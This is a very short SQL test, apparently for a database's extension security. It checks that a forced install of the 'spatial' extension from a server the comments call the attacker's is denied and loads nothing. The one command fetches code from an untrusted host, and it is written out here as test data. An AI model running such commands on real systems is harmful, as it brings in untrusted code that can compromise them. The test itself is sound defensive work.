-- Installs from a server of the attacker's.
-- ends: denied installs and loads no extensions
FORCE INSTALL spatial FROM 'http://example.com'
